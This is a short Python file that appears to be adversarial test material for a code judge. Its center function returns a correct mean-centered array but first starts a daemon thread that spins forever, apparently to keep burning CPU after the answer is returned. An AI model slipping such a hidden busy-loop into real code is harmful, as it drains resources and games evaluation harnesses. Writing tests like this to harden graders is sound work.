# AC|TLE|RTE
# attacks: threads that go on after the answer
import threading


def spin():
    while True:
        pass


def center(x):
    threading.Thread(target=spin, daemon=True).start()
    return x - x.mean(axis=-1, keepdims=True)
